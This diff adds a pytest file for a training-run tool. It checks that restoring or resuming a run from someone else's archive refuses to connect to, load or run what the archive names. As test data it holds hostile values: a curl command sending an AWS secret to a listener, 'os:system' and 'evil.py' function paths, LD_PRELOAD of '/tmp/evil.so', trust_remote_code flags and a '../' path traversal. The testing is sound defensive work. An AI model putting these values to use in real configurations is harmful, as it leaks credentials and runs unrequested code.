@@ -1,0 +1,212 @@
+"""An archive of somebody else's, on a command line: nothing that it names is connected to, loaded or run unasked."""
+
+from __future__ import annotations
+
+import asyncio
+import socket
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import msgspec
+import pytest
+
+from schemas.arrays import Array, BlobRef, pack_tokens
+from schemas.envelope import enclose
+from schemas.errors import BlobDamaged, RunNotFound, SlimeEventsError, UntrustedText
+from schemas.event import Event
+from schemas.prompts import PromptSubmitted, Source
+from schemas.references import expand
+from schemas.runs import Branched, RunStarted
+from schemas.trust import check_trusted, doubting, is_doubted
+from slime_events.core.config.reach import check_reach, reaching
+from slime_events.core.config.settings import TrainSettings
+from slime_events.core.config.toml import settings_from
+from slime_events.core.run.run_folder import RunFolder
+from slime_events.core.run.run_reader import open_run
+from slime_events.plugins.loader import load_function
+from storage.archive.writer import ArchiveWriter
+from storage.log import Append
+from storage.memory_log import MemoryLog
+from tests.cli.invoke import command
+
+restore, resume, lineage, rescore = command("restore"), command("resume"), command("lineage"), command("rescore")
+SECRET = "AWS_SECRET_ACCESS_KEY"
+
+
+class Trap:
+    """A port that must not be connected to."""
+
+    def __init__(self) -> None:
+        self._socket = socket.create_server(("127.0.0.1", 0))
+        self.port, self.heard = self._socket.getsockname()[1], list[bytes]()
+        threading.Thread(target=self._listen, daemon=True).start()
+
+    def _listen(self) -> None:
+        try:
+            while True:
+                connection, _ = self._socket.accept()
+                with connection:
+                    connection.settimeout(1)
+                    self.heard.append(connection.recv(1000))
+        except OSError:
+            return
+
+    def close(self) -> None:
+        self._socket.close()
+
+
+@pytest.fixture
+def trap(monkeypatch: pytest.MonkeyPatch) -> Iterator[Trap]:
+    monkeypatch.setenv(SECRET, "wJalrXUtn")
+    trap = Trap()
+    yield trap
+    trap.close()
+    assert not trap.heard
+
+
+def archived(folder: Path, settings: dict[str, Any], branched: Branched | None = None, *more: Event) -> str:
+    """An archive of a run that was started with these settings; its URL."""
+    values = msgspec.to_builtins(TrainSettings())
+    for component, fields in settings.items():
+        values[component] |= fields
+    values["run"]["run"] = "r"
+    log = MemoryLog("r")
+    prompt = PromptSubmitted(group="g", text="?", tokens=pack_tokens([1]), source=Source("f", row=1))
+    events = [RunStarted(settings=values, code_version="0", branched=branched), prompt, *more]
+    asyncio.run(log.append([Append(enclose("r", event, at=1, producer="test")) for event in events]))
+    writer = ArchiveWriter(str(folder / "archive"), "r")
+    for record in log.records:
+        writer.add(record)
+    writer.seal()
+    return str(folder / "archive")
+
+
+def test_restore_connects_to_no_address_of_the_archive(tmp_path: Path, trap: Trap) -> None:
+    url = archived(tmp_path, {"run": {"run": "r", "nats_url": f"nats://x:${{{SECRET}}}@127.0.0.1:{trap.port}"}})
+    words = ["r", url, "--runs-dir", str(tmp_path / "runs")]
+    with pytest.raises(UntrustedText, match="--nats-url"):
+        restore(words)
+    assert not (tmp_path / "runs").exists()
+    assert restore([*words, "--nats-url", ""]) == 0
+
+
+def test_restore_opens_no_store_of_the_archive(tmp_path: Path, trap: Trap) -> None:
+    url = archived(tmp_path, {"run": {"run": "r", "blob_url": f"http://127.0.0.1:{trap.port}/${{{SECRET}}}"}})
+    words = ["r", url, "--runs-dir", str(tmp_path / "runs")]
+    with pytest.raises(UntrustedText, match="--blob-url"):
+        restore(words)
+    assert restore([*words, "--blob-url", ""]) == 0
+
+
+REACHES: list[dict[str, Any]] = [
+    {"run": {"otlp_endpoint": "http://127.0.0.1:PORT/${SECRET}"}},
+    {"run": {"archive_url": "http://127.0.0.1:PORT/${SECRET}"}},
+    {"run": {"ray_address": "127.0.0.1:PORT"}},
+    {"reward": {"rm_type": "remote_rm", "rm_url": "http://127.0.0.1:PORT/${SECRET}"}},
+    {"reward": {"custom_rm_path": "os:system"}},
+    {"rollout": {"dynamic_sampling_filter_path": "archive/evil.py:f"}},
+    {"agents": {"agent_command": "curl http://127.0.0.1:PORT/$SECRET"}},
+    {"trainer": {"train_env_vars": {"LD_PRELOAD": "/tmp/evil.so"}}},
+    {"trainer": {"megatron": {"trust-remote-code": True}}},
+    {"engine": {"sglang": {"trust_remote_code": True}}},
+    {"debug": {"dump_details": "/home/me"}},
+]
+
+
+@pytest.mark.parametrize("reaches", REACHES, ids=str)
+def test_resume_of_a_restored_run_wants_each_name_from_its_user(
+    tmp_path: Path, trap: Trap, capsys: pytest.CaptureFixture[str], reaches: dict[str, Any]
+) -> None:
+    def filled(value: Any) -> Any:
+        if isinstance(value, dict):
+            return {key: filled(one) for key, one in value.items()}
+        return value.replace("PORT", str(trap.port)).replace("SECRET", SECRET) if isinstance(value, str) else value
+
+    (fields,) = reaches.values()
+    url = archived(tmp_path, filled(reaches))
+    words = ["r", "--runs-dir", str(tmp_path / "runs")]
+    assert restore(["r", url, *words[1:]]) == 0
+    name = next(name for name in reversed(fields))
+    assert f"--{name.replace('_', '-')}" in capsys.readouterr().out
+    with pytest.raises(UntrustedText, match=name.replace("_", "-")):
+        resume(words)
+    folder = RunFolder(tmp_path / "runs", "r")
+    assert folder.restored.exists(), "a refused resume changes nothing"
+
+
+def test_what_the_restore_was_given_is_its_user_s(tmp_path: Path) -> None:
+    url = archived(tmp_path, {"run": {"run": "r", "archive_url": str(tmp_path / "archive")}})
+    assert restore(["r", url, "--runs-dir", str(tmp_path / "runs")]) == 0
+    folder = RunFolder(tmp_path / "runs", "r")
+    assert folder.archive_url() == url
+    assert folder.trusted() == {url}
+    folder.restored.write_text("{")
+    assert folder.trusted() == frozenset()
+    assert folder.archive_url() == str(folder.archive)
+
+
+@pytest.mark.parametrize("where", ["http://127.0.0.1:PORT/${SECRET}/p", "s3://b${SECRET}/p"])
+def test_lineage_looks_for_no_parent_that_an_archive_names(tmp_path: Path, trap: Trap, where: str) -> None:
+    where = where.replace("PORT", str(trap.port)).replace("SECRET", SECRET)
+    branched = Branched(
+        run="p", version=1, position=1, where=where, weights_digest="d", optimizer_digest="", cursors={}, passed={}
+    )
+    url = archived(tmp_path, {}, branched)
+
+    async def look() -> None:
+        async with open_run(f"{url}/r"):
+            with pytest.raises(RunNotFound, match="trust-archive"):
+                async with open_run(where):
+                    pass
+
+    asyncio.run(look())
+
+
+def test_an_archive_s_functions_are_not_loaded(tmp_path: Path) -> None:
+    url = archived(tmp_path, {"reward": {"custom_rm_path": "json:dumps"}})
+
+    async def look() -> None:
+        async with open_run(f"{url}/r"):
+            with pytest.raises(UntrustedText, match="json:dumps"):
+                load_function("json:dumps")
+        assert load_function("json:dumps")
+
+    asyncio.run(look())
+    with pytest.raises(UntrustedText, match="custom-rm-path"):
+        rescore([f"{url}/r"])
+
+
+def test_a_blob_of_the_archive_leads_nowhere(tmp_path: Path) -> None:
+    far = Array(dtype="int32", n=1, blob=BlobRef("../../../../secret", 4))
+    (tmp_path / "secret").write_bytes(b"1234")
+    event = PromptSubmitted(group="h", text="", tokens=far, source=Source("f", row=2))
+    url = archived(tmp_path, {}, None, event)
+    with pytest.raises(BlobDamaged):
+        restore(["r", url, "--runs-dir", str(tmp_path / "runs")])
+
+
+def test_a_text_is_doubted_until_it_is_named() -> None:
+    with doubting(["nats://a:4222,nats://b:4222", "os:system", ""], but=["os.system"]):
+        for text in ("os:system", " os:system", "nats://b:4222", "nats://a:4222,nats://b:4222"):
+            with pytest.raises(UntrustedText):
+                check_trusted(text)
+        with pytest.raises(UntrustedText):
+            expand("nats://b:4222")
+        assert not any(map(is_doubted, ("", "os", "os.system", "nats://c:4222")))
+        with doubting(["os:system"]):
+            pass
+        assert is_doubted("os:system"), "another run that is open names it too"
+    assert not is_doubted("os:system")
+
+
+def test_settings_of_one_s_own_reach_as_they_like() -> None:
+    settings = settings_from({"reward": {"custom_rm_path": "a:b"}, "run": {"nats_url": "nats://h:1"}})
+    assert reaching(settings) == {"run.nats_url": ["nats://h:1"], "reward.custom_rm_path": ["a:b"]}
+    assert not reaching(TrainSettings())
+    check_reach(settings)
+    with doubting(["a:b"]):
+        check_reach(settings, "run")
+        with pytest.raises(SlimeEventsError, match="--custom-rm-path a:b"):
+            check_reach(settings)
